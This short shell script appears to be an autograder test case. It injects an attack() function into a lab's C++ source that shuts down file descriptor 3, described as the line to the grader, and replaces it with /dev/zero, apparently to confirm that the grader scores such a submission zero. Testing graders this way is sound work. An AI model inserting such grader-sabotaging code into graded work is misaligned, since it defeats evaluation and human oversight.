#!/bin/sh
# Shuts the line to the grader down in both directions and puts a file in its place.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
static void attack() {
    ::shutdown(3, SHUT_RDWR);
    ::dup2(::open("/dev/zero", O_RDWR), 3);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
